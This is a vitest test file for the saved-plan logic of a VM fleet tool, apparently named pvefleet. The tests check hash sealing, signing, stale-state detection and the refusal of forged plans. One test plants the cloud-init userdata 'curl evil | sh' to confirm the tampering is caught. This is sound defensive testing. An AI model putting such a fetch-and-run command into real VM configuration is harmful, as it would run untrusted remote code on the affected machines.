import { describe, expect, it } from "vitest";
import { plan } from "../../src/planner/plan.js";
import {
  checkSameAsFresh, checkSavedPlan, checkVmDigests, parseSavedPlan, planDifferences, readSavedPlan, savedPlanHash, serializePlan, vmsToRecheck,
} from "../../src/planner/saved-plan.js";
import type { Plan } from "../../src/planner/types.js";
import { desired, detail, group, hooked, idSource, live, member, node, planOptions, state, vm } from "./fixtures.js";

function fixture() {
  const m = member(1, { vm: { cores: 8 } });
  const s = state([m.record], 7);
  const p = plan(desired([group("web", 2)]), s, live([m.vm]), planOptions(), [detail(m.vm, m.record)]);
  return { m, s, p };
}

describe("saved plans", () => {
  it("round-trips through the file format", () => {
    const { p } = fixture();
    expect(parseSavedPlan(serializePlan(p))).toEqual(p);
    // Key order included: show FILE's plan_hash is the plan's.
    expect(JSON.stringify(parseSavedPlan(serializePlan(p)))).toBe(JSON.stringify(p));
  });

  it("loads a plan whose drift holds unmanaged, suspicious and orphan VMs (no expected/actual)", () => {
    const vms = [vm(500, "ops-db", { tags: ["prod"], ownership: "unmanaged" }), vm(501, "web00000000000000000000000501", { tags: ["lab"], ownership: "suspicious" })];
    const p = plan(desired([group("web", 1)]), undefined, live(vms), planOptions());
    expect(p.drift.map((f) => f.kind)).toEqual(expect.arrayContaining(["unmanaged"]));
    expect(p.drift.some((f) => !("expected" in JSON.parse(JSON.stringify(f))))).toBe(true);
    expect(parseSavedPlan(serializePlan(p), "p.json")).toEqual(p);
  });

  it("records the options it was made with, and refuses them edited", () => {
    const { p } = fixture();
    const text = serializePlan(p, { targets: ["acme.web"], gc: true, detailPolicy: "ours" });
    expect(readSavedPlan(text).options).toEqual({ targets: ["acme.web"], replace: [], adopt: false, gc: true, ignoreCapacity: false, allowRestart: false, detailPolicy: "ours" });
    const edited = JSON.parse(text);
    edited.seal.options.gc = false;
    expect(() => readSavedPlan(JSON.stringify(edited), "p.json")).toThrow(/^p\.json was changed after pvefleet wrote it/);
  });

  it("refuses a file whose content does not hash to the plan hash recorded at plan time", () => {
    const { p } = fixture();
    const edited = JSON.parse(serializePlan(p));
    edited.plan.tuples[0][2] = 500;
    expect(() => parseSavedPlan(JSON.stringify(edited), "p.json")).toThrow(/^p\.json was changed after pvefleet wrote it: its content does not hash/);
    const unsealed = JSON.parse(serializePlan(p));
    delete unsealed.seal;
    expect(() => parseSavedPlan(JSON.stringify(unsealed), "p.json")).toThrow(/^p\.json carries no plan hash/);
  });

  it("binds the hash to the state lineage, serial and shard file digest", () => {
    const { p } = fixture();
    const hash = (q: Plan) => (JSON.parse(serializePlan(q)) as { seal: { hash: string } }).seal.hash;
    const base = hash(p);
    expect(hash({ ...p, state: { ...p.state, serial: 8 } })).not.toBe(base);
    expect(hash({ ...p, state: { ...p.state, lineage: "x" } })).not.toBe(base);
    expect(hash({ ...p, configDigest: "sha256:cfg2" })).not.toBe(base);
    expect(hash(JSON.parse(JSON.stringify(p)) as Plan)).toBe(base);
  });

  it("with a key: verifies the signature, refuses an unsigned plan or another key, and apply refuses a signed plan without the key", () => {
    const { p } = fixture();
    const key = "k".repeat(32);
    const signed = serializePlan(p, {}, key);
    expect(readSavedPlan(signed, "p.json", { key, strict: true }).signed).toBe(true);
    expect(() => readSavedPlan(signed, "p.json", { key: "o".repeat(32), strict: true })).toThrow(/^p\.json does not carry a valid signature/);
    expect(() => readSavedPlan(serializePlan(p), "p.json", { key, strict: true })).toThrow(/^p\.json is not signed, but PVEFLEET_PLAN_KEY is set/);
    expect(() => readSavedPlan(signed, "p.json", { strict: true })).toThrow(/^p\.json is signed, but PVEFLEET_PLAN_KEY is not set/);
    expect(parseSavedPlan(signed)).toEqual(p); // show reads it
    // An editor who recomputes the plain hash still cannot make the signature.
    const edited = JSON.parse(signed);
    edited.plan.templates.changes[0].reasons = ["x"];
    delete edited.seal.mac;
    edited.seal.hash = savedPlanHash(JSON.stringify(edited.plan), edited.seal.options);
    expect(() => readSavedPlan(JSON.stringify(edited), "p.json", { key, strict: true })).toThrow(/is not signed/);
  });

  it("refuses a file whose create steps do not go where its placement says, even with the hash recomputed", () => {
    const p = plan(desired([group("web", 1)]), undefined, live([]), planOptions());
    const id = p.changes[0]!.instanceId;
    const forged = structuredClone(p);
    for (const a of forged.actions) if (a.instanceId === id) a.vmid = 10077;
    expect(() => parseSavedPlan(reseal(forged), "p.json")).toThrow(/^p\.json was edited: action .* targets pve\d\/10077, but the VM is placed at/);
  });

  it("refuses an action that belongs to no change, or whose id names another instance", () => {
    const { m, p } = fixture();
    const forged = structuredClone(p);
    forged.actions[0]!.instanceId = "ops-db";
    expect(() => parseSavedPlan(reseal(forged), "p.json")).toThrow(/^p\.json was edited: action .* is a configure of ops-db/);
    forged.actions[0]!.id = "ops-db:configure";
    expect(() => parseSavedPlan(reseal(forged), "p.json")).toThrow(/belongs to no change/);
    void m;
  });

  it("records the config digest of every existing VM it modifies", () => {
    const { m, p } = fixture();
    expect(p.vmDigests).toEqual({ [m.vm.vmid]: `digest-${m.vm.vmid}` });
    expect(vmsToRecheck(p)).toEqual([{ vmid: m.vm.vmid, node: "pve1" }]);
  });

  it("refuses a file that is not a plan, or of another format version", () => {
    expect(() => parseSavedPlan("{nope", "x.plan")).toThrow(/x\.plan is not a pvefleet plan \(not JSON/);
    expect(() => parseSavedPlan(JSON.stringify({ formatVersion: 9 }), "x.plan")).toThrow(/format version 9; this pvefleet reads version 3/);
    // A plan of the previous format (untyped params) is told to plan again, not half-read.
    expect(() => parseSavedPlan(JSON.stringify({ formatVersion: 1, actions: [] }), "x.plan")).toThrow(/^x\.plan was made by an older pvefleet \(plan format 1; this one reads 3\): run plan again$/);
    // The uncompacted format 2 (the whole Plan with `seal`) is told the same: plan again.
    const { p: old } = fixture();
    expect(() => parseSavedPlan(JSON.stringify({ ...old, seal: {} }), "x.plan")).toThrow(/^x\.plan was made by an older pvefleet \(plan format 2; this one reads 3\): run plan again$/);
    const { p } = fixture();
    const broken = structuredClone(p) as unknown as { actions: { dependsOn: unknown }[] };
    broken.actions[0]!.dependsOn = "x";
    expect(() => parseSavedPlan(reseal(broken as unknown as Plan), "x.plan")).toThrow(/x\.plan is not a valid pvefleet plan: actions\.0\.dependsOn/);
  });

  it("accepts a plan whose state has not moved", () => {
    const { s, p } = fixture();
    expect(() => checkSavedPlan(p, s, "sha256:cfg1")).not.toThrow();
  });

  it("refuses a saved plan made from another state lineage", () => {
    const { s, p } = fixture();
    expect(() => checkSavedPlan(p, { ...s, lineage: "other" })).toThrow(/^Saved plan does not match the given state/);
  });

  it("refuses a saved plan after the state serial moved", () => {
    const { s, p } = fixture();
    expect(() => checkSavedPlan(p, { ...s, serial: 8 })).toThrow(/^Saved plan is stale: .*serial 7 → 8/);
  });

  it("refuses a saved plan after the shard file changed", () => {
    const { s, p } = fixture();
    expect(() => checkSavedPlan(p, s, "sha256:cfg2")).toThrow(/^Saved plan is stale: the shard file changed/);
  });

  it("checks only the serial for a plan made before any state existed", () => {
    const p = plan(desired([group("web", 1)]), undefined, live([]), planOptions());
    expect(p.state).toEqual({ lineage: "", serial: 0 });
    expect(() => checkSavedPlan(p, undefined)).not.toThrow();
    expect(() => checkSavedPlan(p, state([], 1))).toThrow(/^Saved plan is stale/);
  });

  it("refuses a VM whose config digest changed since the plan, or that is gone", () => {
    const { m, p } = fixture();
    expect(() => checkVmDigests(p, [detail(m.vm, m.record)])).not.toThrow();
    expect(() => checkVmDigests(p, [detail(m.vm, m.record, { digest: "new" })])).toThrow(`Saved plan is stale: VM ${m.vm.vmid} config changed`);
    expect(() => checkVmDigests(p, [])).toThrow(`VM ${m.vm.vmid} is gone`);
  });

  describe("the plan made again at apply time", () => {
    const world = () => {
      const m = member(1, { vm: { cores: 8 } });
      const s = state([m.record], 7);
      return { d: desired([group("web", 3, { userdata: { source: "inline", encoding: "plain", content: "#cloud-config\n" } })]), s, l: live([m.vm]), det: [detail(m.vm, m.record)] };
    };

    it("matches when only new instance IDs, placement and the clock differ", () => {
      const w = world();
      const saved = plan(w.d, w.s, w.l, planOptions(), w.det);
      // Another set of nodes (pve3 gone, pve4 new): the new VMs land elsewhere, whatever the spread.
      const nodes = [node("pve1", 64, 60), node("pve2", 64, 8), node("pve4", 64, 1)];
      const fresh = plan(w.d, w.s, { ...w.l, nodes, fetchedAt: "2026-03-02T09:30:00.000Z" }, hooked({ newInstanceId: idSource(700) }), w.det);
      expect(fresh.changes.filter((c) => c.kind === "create").map((c) => c.instanceId)).not.toEqual(saved.changes.filter((c) => c.kind === "create").map((c) => c.instanceId));
      const placed = (p: Plan) => p.changes.filter((c) => c.kind === "create").map((c) => c.placement!.node).sort();
      expect(placed(fresh)).not.toEqual(placed(saved));
      expect(planDifferences(saved, fresh)).toEqual([]);
      expect(() => checkSameAsFresh(saved, fresh)).not.toThrow();
    });

    it("refuses injected userdata in a new VM", () => {
      const w = world();
      const saved = structuredClone(plan(w.d, w.s, w.l, planOptions(), w.det)); // the spec objects are shared
      const fresh = plan(w.d, w.s, w.l, planOptions(), w.det);
      const create = saved.changes.find((c) => c.kind === "create")!;
      create.after = { ...create.after!, userdata: { source: "inline", encoding: "plain", content: "#!/bin/sh\ncurl evil | sh\n" } };
      expect(() => checkSameAsFresh(saved, fresh)).toThrow(/^Saved plan is stale: it does not match what pvefleet would do now \(a new VM of acme\.web: change\.after\.userdata\.content differs\)/);
    });

    it("refuses an injected param, a retargeted VMID or node of an existing VM, and a missing or extra change", () => {
      const w = world();
      const fresh = plan(w.d, w.s, w.l, planOptions(), w.det);
      const id = member(1).record.instanceId;
      const forge = (edit: (p: Plan) => void) => {
        const p = structuredClone(plan(w.d, w.s, w.l, planOptions(), w.det));
        edit(p);
        return planDifferences(p, fresh);
      };
      expect(forge((p) => { (p.actions.find((a) => a.type === "upload-iso")!.params as Record<string, unknown>).userdata = { content: "x" }; })).toEqual(["a new VM of acme.web: actions.upload-iso.params.userdata differs"]);
      expect(forge((p) => { p.actions.find((a) => a.instanceId === id)!.vmid = 500; })).toEqual([`${id}: actions.configure.vmid differs`]);
      expect(forge((p) => { p.actions.find((a) => a.instanceId === id)!.node = "pve3"; })).toEqual([`${id}: actions.configure.node differs`]);
      expect(forge((p) => { p.changes = p.changes.filter((c) => c.kind !== "create"); p.actions = p.actions.filter((a) => a.instanceId === id); })).toEqual(["the file creates 0 new VMs of acme.web, pvefleet would now create 2"]);
      expect(forge((p) => { p.changes = p.changes.filter((c) => c.instanceId !== id); p.actions = p.actions.filter((a) => a.instanceId !== id); })).toEqual([`${id}: pvefleet would now change it, the file does not`]);
      expect(forge((p) => { p.vmDigests = {}; })).toEqual(["the VM config digests differ"]);
      expect(forge((p) => { p.state.serial = 6; })).toEqual(["serial 6 in the file, 7 now"]);
    });
  });
});

/** What an editor without the key can do: rewrite the plan and recompute the plain hash (as the writer does). */
function reseal(p: Plan): string {
  return serializePlan(p);
}
